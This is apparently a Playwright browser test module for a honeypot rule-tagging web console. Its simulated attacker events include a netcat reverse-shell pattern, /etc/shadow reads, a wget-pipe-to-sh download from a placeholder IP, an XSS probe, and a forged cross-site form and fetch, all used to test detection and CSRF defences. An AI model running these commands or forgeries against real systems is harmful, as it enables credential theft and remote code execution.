"""The web console in a real browser: headless Debian Chromium driven by Playwright.

One stack serves the whole module: NATS with the shipped accounts config, PostgreSQL, a
`ttp-master` on the starter pack plus one rejected file, a `ttp-worker` and a `ttp-console`,
each a process of its own connected as its own NATS role. Honeypot events are published as
the producer role, so every tag on the pages went through the worker. Before the tests, the
starter pack's inline `fire` examples are published as background traffic, which gives the
matrix its heat.

The tests only look at what a user sees (text and the controls of the page), log in through
the real login form, and wait with Playwright's auto-waiting expectations, never a sleep.
Tests do not depend on each other: each publishes its own events under its own attacker and
leaves every rule as it found it. Each saves a screenshot (fixed viewport, never compared)
into ``$TTP_TEST_SCREENSHOTS`` or a temporary directory. README.md shows three of them from
docs/images/: run this module with ``TTP_TEST_SCREENSHOTS=/some/dir`` and copy
``console-matrix.png``, ``console-inspector.png`` and ``console-rules-rejected.png`` there.

Without Chromium these tests are skipped, loudly, except under CI where they fail (the rule
lives in tests/e2e/conftest.py and is tested at the end of this module).
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import re
import subprocess
import sys
import uuid
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from aiohttp import web
from nats.aio.client import Client
from playwright.async_api import (
    Browser,
    BrowserContext,
    ConsoleMessage,
    Page,
    Response,
    ViewportSize,
    async_playwright,
    expect,
)

from harness.console import CHROMIUM_VARIABLE, ConsoleUser, start_console, wait_console_ready
from harness.master import fire_examples, starter_pack_in
from harness.nats_roles import role_nats
from harness.processes import Procs, master_summary, status_feed, until
from ttp_core.contract import subjects

REPO = Path(__file__).resolve().parents[2]
OPERATOR = ConsoleUser("alice", "operator", "alice-browser-password")
VIEWER = ConsoleUser("bob", "viewer", "bob-browser-password")
WORKER = "w1"
VIEWPORT: ViewportSize = {"width": 1440, "height": 900}
WAIT_MS = 30_000
"""Playwright's expectations: generous, they return as soon as the page shows the thing."""
CONVERGE_MS = 60_000
"""The fleet page refreshes every 5 s; the worker needs a rebuild after a state change."""

REJECTED_RULE = """\
rule_id: R9000
rule_version: 1
name: reverse_shell_netcat
description: A rule with a typo in its technique id, which the master rejects.
applies_to: [command]
match:
  field: command_text
  pattern: 'nc -e /bin/sh'
emits:
  - tactic: TA0002
    technique_id: T1O59
    confidence: 0.7
"""

# What each command fires in the starter pack:
SHADOW = "cat /etc/shadow"  # R0014 -> T1003.008
SHADOW_AND_DOWNLOAD = "cat /etc/shadow; wget http://203.0.113.7/x.sh | sh"
# ... R0014 -> T1003.008, R0019 -> T1105 + T1059.004, R0020 -> T1105
SYSTEM_INFO = "uname -a"  # R0001 -> T1082

expect.set_options(timeout=WAIT_MS)


@dataclass
class Stack:
    """The running processes and what a test needs to reach them."""

    url: str
    procs: Procs
    producer: Client
    browser: Browser
    screenshots: Path

    async def publish(self, command: str, attacker: str) -> str:
        """A `command` event of `attacker` on the bus, as the producer; its source_id."""
        source_id = f"browser-{uuid.uuid4().hex[:12]}"
        await publish_event(
            self.producer, "command", {"command_text": command}, attacker, source_id
        )
        return source_id


async def publish_event(
    producer: Client, kind: str, payload: dict[str, Any], attacker: str, source_id: str
) -> int:
    """One honeypot event on TTP_EVENTS; its stream sequence."""
    event = {
        "source_kind": kind,
        "source_id": source_id,
        "attacker_uuid": attacker,
        "payload": payload,
    }
    ack = await producer.jetstream().publish(subjects.event(kind), json.dumps(event).encode())
    return int(ack.seq)


def new_attacker() -> str:
    return str(uuid.uuid4())


def screenshot_dir(tmp: Path) -> Path:
    named = os.environ.get("TTP_TEST_SCREENSHOTS")
    directory = Path(named) if named else tmp / "screenshots"
    directory.mkdir(parents=True, exist_ok=True)
    return directory


async def background_traffic(stack_procs: Procs, producer: Client, worker: Client) -> int:
    """Every inline `fire` example of the starter pack as an event, from six attackers; waits
    until the worker has tagged them all (so they precede every test's events on TTP_TAGS)."""
    attackers = [new_attacker() for _ in range(6)]
    examples = fire_examples()
    last = 0
    for n, (kind, payload) in enumerate(examples):
        attacker = attackers[n % len(attackers)]
        last = await publish_event(producer, kind, payload, attacker, f"bg-{n}")

    async def drained() -> bool:
        # The worker acknowledges an event after publishing its tags.
        info = await worker.jetstream().consumer_info(subjects.STREAM_EVENTS, "ttp-workers")
        delivered = bool(info.delivered.stream_seq >= last)
        return delivered and info.num_pending == 0 and info.num_ack_pending == 0

    await until("the background events tagged", drained, stack_procs, "master", WORKER)
    return len(examples)


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def stack(
    chromium_executable: str,
    postgres_server: Any,
    tmp_path_factory: pytest.TempPathFactory,
) -> AsyncIterator[Stack]:
    tmp = tmp_path_factory.mktemp("console-browser")
    rules = starter_pack_in(tmp / "rules")
    (rules / "R9000.yaml").write_text(REJECTED_RULE)
    starter_rules = len(list(rules.glob("R0*.yaml")))
    postgres_server.ensure_running()
    database_url = postgres_server.create_database()
    try:
        with role_nats(tmp) as roles:
            procs = Procs(tmp, roles.url, database_url, rules, roles)
            try:
                async with (
                    roles.client("producer") as producer,
                    roles.client("consumer") as consumer,
                    roles.client("worker") as worker,
                    status_feed(consumer) as statuses,
                    async_playwright() as playwright,
                ):
                    procs.start("master", "ttp-master", role="master")

                    async def loaded() -> dict[str, Any] | None:
                        held = await master_summary(consumer)
                        if held is None or held["rejected"] != 1:
                            return None
                        return held if held["active"] + held["external"] == starter_rules else None

                    summary: dict[str, Any] = await until(
                        "the master's rules", loaded, procs, "master"
                    )
                    procs.worker(WORKER)

                    async def converged() -> bool:
                        status = statuses.get(WORKER, {})
                        return status.get("ready") is True and (
                            status.get("index_digest") == summary["digest"]
                        )

                    await until("the worker on the master's digest", converged, procs, WORKER)
                    start_console(procs, [OPERATOR, VIEWER])
                    url = await wait_console_ready(procs)
                    await background_traffic(procs, producer, worker)
                    browser = await playwright.chromium.launch(
                        executable_path=chromium_executable, headless=True
                    )
                    try:
                        yield Stack(url, procs, producer, browser, screenshot_dir(tmp))
                    finally:
                        await browser.close()
                procs.check_alive("master", WORKER, "console")
            finally:
                procs.kill_all()
            unexpected = roles.unexpected_violations()
            assert unexpected == [], "a process was refused what its role needs:\n" + "\n".join(
                unexpected
            )
    finally:
        postgres_server.drop_database(database_url)


@dataclass
class Problems:
    """What a page reported going wrong: console errors (a CSP violation, a failed load),
    uncaught script errors, dialogs (an alert() would be injected script running)."""

    seen: list[str] = field(default_factory=list)
    allowed: list[re.Pattern[str]] = field(default_factory=list)

    def allow(self, pattern: str) -> None:
        self.allowed.append(re.compile(pattern))

    def unexpected(self) -> list[str]:
        return [p for p in self.seen if not any(a.search(p) for a in self.allowed)]


@dataclass
class Session:
    """One browser context (its own cookies) and its page."""

    context: BrowserContext
    page: Page
    problems: Problems
    stack: Stack

    def url(self, path: str) -> str:
        return self.stack.url + path

    async def goto(self, path: str) -> None:
        response = await self.page.goto(self.url(path))
        assert response is not None

    async def login(self, user: ConsoleUser) -> None:
        """Log in through the login form, as a person would."""
        await self.goto("/login")
        await self.page.get_by_label("User").fill(user.name)
        await self.page.get_by_label("Password").fill(user.password)
        await self.page.get_by_role("button", name="Log in").click()
        await expect(self.page.locator(".user-badge")).to_contain_text(user.name)
        await expect(self.page.locator(".user-badge")).to_contain_text(user.role)
        await expect(self.page.get_by_role("heading", name="ATT&CK matrix")).to_be_visible()

    async def screenshot(self, name: str) -> None:
        await self.page.screenshot(
            path=self.stack.screenshots / f"{name}.png", animations="disabled", caret="hide"
        )


@contextlib.asynccontextmanager
async def session(stack: Stack, user: ConsoleUser | None = None) -> AsyncIterator[Session]:
    """A fresh browser context (logged in as `user`); fails on any page problem not allowed."""
    context = await stack.browser.new_context(
        viewport=VIEWPORT,
        device_scale_factor=1,
        locale="en-GB",
        timezone_id="UTC",
        color_scheme="light",
    )
    problems = Problems()
    page = await context.new_page()

    def on_console(message: ConsoleMessage) -> None:
        if message.type == "error":
            problems.seen.append(f"console: {message.text}")

    async def on_dialog(dialog: Any) -> None:
        problems.seen.append(f"dialog: {dialog.message}")
        await dialog.dismiss()

    def on_response(response: Response) -> None:
        if response.status >= 400:
            problems.seen.append(
                f"HTTP {response.status}: {response.request.method} {response.url}"
            )

    page.on("console", on_console)
    page.on("response", on_response)
    page.on("pageerror", lambda error: problems.seen.append(f"script error: {error}"))
    page.on("dialog", on_dialog)
    try:
        opened = Session(context, page, problems, stack)
        if user is not None:
            await opened.login(user)
        yield opened
        assert problems.unexpected() == []
    finally:
        await context.close()


async def live_page(user: Session, attacker: str) -> None:
    """The live tags of `attacker`, with the stream open."""
    await user.goto(f"/live?attacker={attacker}")
    await expect(user.page.locator("#live-status")).to_have_text("0 tags received")


def live_row(user: Session, rule_id: str) -> Any:
    return user.page.locator("#live-rows tr").filter(
        has=user.page.get_by_role("link", name=rule_id, exact=True)
    )


async def fleet_converged_at(user: Session, revision: int) -> None:
    """The fleet page's banner says every worker runs `revision` (fleet.js refreshes it)."""
    await user.goto("/fleet")
    await expect(user.page.locator(".banner")).to_have_text(
        re.compile(rf"^Converged: every live worker is ready at revision {revision} "),
        timeout=CONVERGE_MS,
    )


# --------------------------------------------------------------------------------------------
# The tests
# --------------------------------------------------------------------------------------------


async def disable_from_page(user: Session, rule_id: str, reason: str, duration: str) -> None:
    """Disable `rule_id` with the state controls of its page, as an operator clicks it."""
    page = user.page
    await user.goto(f"/rules/{rule_id}")
    disable = page.locator("#state-controls form").filter(
        has=page.get_by_role("heading", name="Disable")
    )
    await disable.get_by_label("Reason").fill(reason)
    await disable.get_by_label("For (30m, 2h, 1d; empty: until cleared)").fill(duration)
    await disable.get_by_role("button", name="Disable").click()
    await expect(page.locator(".alert").first).to_contain_text(f"{rule_id} disabled until")


async def clear_from_page(
    user: Session, reason: str | None = None, acted_for: str | None = None
) -> None:
    """Enable the rule of the open page again (its audit row naming `acted_for`, when given)
    and wait until the fleet has the change."""
    page = user.page
    clear = page.locator("#state-controls form").filter(
        has=page.get_by_role("heading", name="Clear")
    )
    if reason is not None:
        await clear.get_by_label("Reason (optional)").fill(reason)
    await clear.get_by_role("button", name="Enable again").click()
    await expect(page.locator(".alert").first).to_contain_text("enabled again")
    cleared = page.locator("#audit tbody tr").first
    if acted_for is not None:
        await expect(cleared.locator("td").nth(4)).to_have_text(acted_for)
    await fleet_converged_at(user, int(await cleared.locator("td").first.inner_text()))


@pytest.mark.asyncio(loop_scope="module")
async def test_a_published_event_appears_in_live_tags_and_on_the_matrix(stack: Stack) -> None:
    hostile = "<img src=x onerror=alert(1)>"
    command = f"{SHADOW}; echo '{hostile}'"
    attacker = new_attacker()
    async with session(stack, VIEWER) as user:
        await live_page(user, attacker)
        source_id = await stack.publish(command, attacker)

        row = live_row(user, "R0014")
        await expect(row).to_contain_text("T1003.008")
        await expect(row).to_contain_text(f"command/{source_id}")
        await expect(row).to_contain_text(attacker)
        await expect(row).to_contain_text("0.90")
        # Attacker input is shown as text, never run (a dialog would fail the session).
        await expect(row.locator("dl.evidence")).to_contain_text(command)
        await expect(user.page.locator("#live-status")).to_have_text("1 tag received")
        await user.screenshot("console-live")

        await user.goto("/?window=1h")
        cell = user.page.locator('a.cell[data-technique="T1003"]')
        await expect(cell).to_contain_text("OS Credential Dumping")
        await expect(cell).to_contain_text(re.compile(r"T1003 · \d+ tags? · \d+ rules?"))
        await expect(cell).to_have_class(re.compile(r"\bheat-[1-5]\b"))
        # A technique no rule and no event touched stays cold.
        await expect(user.page.locator('a.cell[data-technique="T1659"]').first).to_have_class(
            re.compile(r"\bheat-0\b")
        )
        await user.screenshot("console-matrix")

        await user.page.get_by_role("link", name="Covered by rules").click()
        await expect(user.page.get_by_text("best confidence of the active rules")).to_be_visible()
        await expect(cell).to_have_class(re.compile(r"\bheat-5\b"))  # R0014 at 0.9


@pytest.mark.asyncio(loop_scope="module")
async def test_the_inspector_shows_the_evidence_of_a_tag(stack: Stack) -> None:
    command = "cp /etc/shadow /tmp/.s; cat /tmp/.s"
    attacker = new_attacker()
    async with session(stack, VIEWER) as user:
        await live_page(user, attacker)
        source_id = await stack.publish(command, attacker)
        await expect(live_row(user, "R0014")).to_contain_text(attacker)

        await user.goto("/")
        await user.page.locator('a.cell[data-technique="T1003"]').click()
        page = user.page
        await expect(
            page.get_by_role("heading", name="T1003 OS Credential Dumping")
        ).to_be_visible()
        rules = page.locator("section.card", has_text="Rules mapping to it")
        await expect(rules.get_by_role("row").filter(has_text="R0014")).to_contain_text(
            "shadow_file_dump"
        )
        why = page.locator("section.card", has_text="Why it was tagged")
        tag = why.locator("tbody tr").filter(has_text=source_id)
        await expect(tag).to_have_count(1)
        await expect(tag).to_contain_text("R0014")
        await expect(tag).to_contain_text(attacker)
        await expect(tag).to_contain_text("0.90")
        await expect(tag.locator("dl.evidence dt")).to_have_text("command_text")
        await expect(tag.locator("dl.evidence dd")).to_have_text(command)
        await user.screenshot("console-inspector")


@pytest.mark.asyncio(loop_scope="module")
async def test_disabling_a_rule_from_its_page_leaves_it_out_of_new_tags(stack: Stack) -> None:
    async with session(stack, OPERATOR) as user:
        page = user.page
        await disable_from_page(user, "R0019", "browser test: too noisy", "2h")
        facts = page.locator("dl.facts")
        await expect(facts).to_contain_text("disabled")
        await expect(facts).to_contain_text("browser test: too noisy")
        await expect(facts).to_contain_text(f"CONSOLE/console for {OPERATOR.name}")
        await expect(facts.locator("time.countdown")).to_be_visible()
        # The audit names the console's verified identity and the user it acted for.
        change = page.locator("#audit tbody tr").first
        await expect(change).to_contain_text("state")
        await expect(change.locator("td").nth(3)).to_have_text("CONSOLE/console")
        await expect(change.locator("td").nth(4)).to_have_text(OPERATOR.name)
        revision = int(await change.locator("td").first.inner_text())
        await user.screenshot("console-rule-disabled")

        await fleet_converged_at(user, revision)
        attacker = new_attacker()
        await live_page(user, attacker)
        await stack.publish(SHADOW_AND_DOWNLOAD, attacker)
        # A later event of the same attacker: once its row is there, every row of the first
        # event is too (the stream keeps the order).
        await stack.publish(SYSTEM_INFO, attacker)
        await expect(live_row(user, "R0001")).to_have_count(1)
        await expect(live_row(user, "R0014")).to_have_count(1)
        await expect(live_row(user, "R0020")).to_have_count(1)
        await expect(live_row(user, "R0019")).to_have_count(0)

        await user.goto(f"/attackers/{attacker}")
        techniques = page.locator("main table")
        await expect(techniques).to_contain_text("T1003.008")
        await expect(techniques).to_contain_text("T1105")
        await expect(techniques).not_to_contain_text("T1059")  # R0019's alone

        await user.goto("/rules/R0019")
        await clear_from_page(user, "browser test done", acted_for=OPERATOR.name)


_COUNTDOWN = re.compile(r"^in (\d+)m (\d+)s$")


def countdown_seconds(text: str) -> int:
    """The seconds a countdown under an hour reads (``in 29m 58s``)."""
    match = _COUNTDOWN.match(text)
    assert match is not None, text
    return int(match.group(1)) * 60 + int(match.group(2))


@pytest.mark.asyncio(loop_scope="module")
async def test_an_expiry_countdown_ticks_down_from_the_states_expiry(stack: Stack) -> None:
    async with session(stack, OPERATOR) as user:
        page = user.page
        await disable_from_page(user, "R0057", "browser test: countdown", "30m")

        # Under an hour, countdown.js shows seconds, so its text changes every second.
        countdown = page.locator("dl.facts time.countdown")
        await expect(countdown).to_have_text(re.compile(r"^in 29m \d+s$"))
        first = await countdown.inner_text()
        await expect(countdown).not_to_have_text(first)  # ticked, with no reload
        later = await countdown.inner_text()
        assert 0 < countdown_seconds(first) - countdown_seconds(later) < 60, (first, later)

        await clear_from_page(user)


@contextlib.asynccontextmanager
async def steady_traffic(stack: Stack) -> AsyncIterator[None]:
    """Events published for the worker to tag, a few a second, until the block ends."""

    async def publish() -> None:
        attacker = new_attacker()
        while True:
            await stack.publish(SYSTEM_INFO, attacker)
            await asyncio.sleep(0.1)

    task = asyncio.create_task(publish())
    try:
        yield
    finally:
        task.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await task


@pytest.mark.asyncio(loop_scope="module")
async def test_the_fleet_page_shows_how_many_events_a_second_the_worker_processes(
    stack: Stack,
) -> None:
    busy = re.compile(r"^(?!0\.0$)\d+\.\d$")  # a number, and not zero
    async with session(stack, VIEWER) as user, steady_traffic(stack):
        page = user.page
        await user.goto("/fleet")
        row = page.locator("table.fleet tbody tr").filter(
            has=page.locator("td:first-child", has_text=re.compile(rf"^{WORKER}$"))
        )
        await expect(row).to_have_count(1)
        # The worker's own digest (its first 16 characters), matching the master's.
        master_digest = re.search(
            r"Master digest (\w{16})", await page.locator("#fleet p.muted").inner_text()
        )
        assert master_digest is not None
        digest_cell = row.locator("td").nth(4)
        await expect(digest_cell).to_contain_text(master_digest.group(1))
        await expect(digest_cell).to_contain_text("matches")
        # fleet.js refreshes the table every 5 s; the rate needs two of the worker's
        # statuses, so it may read "…" until the first refresh.
        await expect(row.locator("td").nth(7)).to_have_text(busy, timeout=CONVERGE_MS)
        await expect(page.locator("#fleet p.muted")).to_contain_text(
            re.compile(r"· (?!0\.0 )\d+\.\d events/s in all$")
        )
        await user.screenshot("console-fleet")


@contextlib.asynccontextmanager
async def foreign_site(console_url: str) -> AsyncIterator[str]:
    """Another origin (its own port) serving a page with a form that posts to the console:
    what a malicious site would put in front of a logged-in operator."""
    form = f"""<!doctype html>
<html><head><title>Free prize</title><link rel="icon" href="data:,"></head><body>
<form method="post" action="{console_url}/rules/R0014/state">
  <input type="hidden" name="action" value="disable">
  <input type="hidden" name="reason" value="forged from another site">
  <input type="hidden" name="csrf_token" value="guessed-token">
  <button type="submit">Claim your prize</button>
</form></body></html>"""

    async def page(_: web.Request) -> web.Response:
        return web.Response(text=form, content_type="text/html")

    app = web.Application()
    app.router.add_get("/", page)
    runner = web.AppRunner(app)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    try:
        port = runner.addresses[0][1]
        yield f"http://127.0.0.1:{port}/"
    finally:
        await runner.cleanup()


_FORGED_FETCH = """async ([path, token]) => {
  const body = new URLSearchParams({action: "disable", reason: "forged by script"});
  if (token) { body.set("csrf_token", token); }
  const response = await fetch(path, {method: "POST", body: body});
  return [response.status, await response.text()];
}"""


@pytest.mark.asyncio(loop_scope="module")
async def test_a_viewer_sees_no_controls_and_forged_posts_are_refused(stack: Stack) -> None:
    async with session(stack, VIEWER) as viewer:
        viewer.problems.allow(r"status of 403|^HTTP 403: POST .*/rules/R0014/state$")
        page = viewer.page
        await viewer.goto("/rules/R0014")
        await expect(page.locator("dl.facts")).to_contain_text("enabled")
        await expect(page.get_by_role("heading", name="Change state")).to_have_count(0)
        await expect(page.get_by_role("button", name="Disable")).to_have_count(0)
        await expect(page.get_by_role("button", name="Enable again")).to_have_count(0)

        # A script in the page posting without the token, then with the viewer's own token.
        status, text = await page.evaluate(_FORGED_FETCH, ["/rules/R0014/state", None])
        assert status == 403
        assert "This request was refused" in text
        token = await page.locator('meta[name="csrf-token"]').get_attribute("content")
        assert token
        status, text = await page.evaluate(_FORGED_FETCH, ["/rules/R0014/state", token])
        assert status == 403
        assert "Only operators may change rule state." in text

    async with session(stack, OPERATOR) as operator, foreign_site(stack.url) as elsewhere:
        operator.problems.allow(r"status of 403|^HTTP 403: POST .*/rules/R0014/state$")
        page = operator.page
        await page.goto(elsewhere)
        await page.get_by_role("button", name="Claim your prize").click()
        await expect(page.locator(".error-status")).to_have_text("403")
        await expect(page.locator(".error-card")).to_contain_text("This request was refused")
        await operator.screenshot("console-forged-post-refused")

        await operator.goto("/rules/R0014")
        await expect(page.locator("dl.facts")).to_contain_text("enabled")
        await expect(page.locator("#audit")).not_to_contain_text("forged")


@pytest.mark.asyncio(loop_scope="module")
async def test_a_rejected_rule_shows_its_located_error_and_line(stack: Stack) -> None:
    bad_line = REJECTED_RULE.splitlines().index("    technique_id: T1O59") + 1
    async with session(stack, VIEWER) as user:
        page = user.page
        await page.get_by_role("link", name="Rules", exact=True).click()
        rejected = page.locator("#rejected")
        await expect(rejected.get_by_role("heading", name="Rejected 1")).to_be_visible()
        error = rejected.locator(".rejections li")
        await expect(error.locator(".location")).to_have_text(
            re.compile(rf"^R9000\.yaml:{bad_line}:\d+$")
        )
        await expect(error).to_contain_text("T1O59")
        await expect(error.locator(".line-error")).to_have_text(
            re.compile(rf"^\s*{bad_line}\s+technique_id: T1O59$")
        )
        await expect(error.locator(".caret")).to_contain_text("^")
        await user.screenshot("console-rules-rejected")

        await rejected.get_by_role("link", name="R9000").click()
        await expect(page.locator("dl.facts")).to_contain_text("rejected")
        await expect(page.locator("#errors .location")).to_have_text(
            re.compile(rf"^R9000\.yaml:{bad_line}:\d+$")
        )


# --------------------------------------------------------------------------------------------
# The rule for a machine without Chromium
# --------------------------------------------------------------------------------------------


def _run_browser_tests_without_chromium(ci: bool) -> subprocess.CompletedProcess[str]:
    """This module's browser tests in a pytest of their own, with no Chromium to be found."""
    env = {k: v for k, v in os.environ.items() if k != "CI"}
    env[CHROMIUM_VARIABLE] = "/nonexistent/chromium"
    if ci:
        env["CI"] = "true"
    this = Path(__file__).relative_to(REPO)
    return subprocess.run(
        [
            sys.executable,
            "-m",
            "pytest",
            str(this),
            "-k",
            "not without_chromium",
            "-p",
            "no:cacheprovider",
            "-o",
            "addopts=",
            "-rs",
        ],
        cwd=REPO,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


BROWSER_TESTS = 7
"""The tests above, which need Chromium."""


def test_without_chromium_the_browser_tests_are_skipped_loudly() -> None:
    run = _run_browser_tests_without_chromium(ci=False)
    output = run.stdout + run.stderr
    assert run.returncode == 0, output
    assert re.search(rf"\b{BROWSER_TESTS} skipped\b", output), output
    assert " passed" not in output and "error" not in output, output
    # The banner of the terminal summary, and a warning in the warnings summary.
    assert "CHROMIUM NOT FOUND" in output, output
    assert f"{BROWSER_TESTS} browser tests of the web console SKIPPED" in output, output
    assert "PytestWarning: TTP_TEST_CHROMIUM=/nonexistent/chromium" in output, output


def test_without_chromium_in_ci_the_browser_tests_fail() -> None:
    run = _run_browser_tests_without_chromium(ci=True)
    output = run.stdout + run.stderr
    assert run.returncode == 1, output
    assert re.search(rf"\b{BROWSER_TESTS} errors\b", output), output
    assert " passed" not in output and "skipped" not in output, output
    assert "CI must run the browser tests" in output, output
    assert f"{BROWSER_TESTS} browser tests of the web console FAILED" in output, output
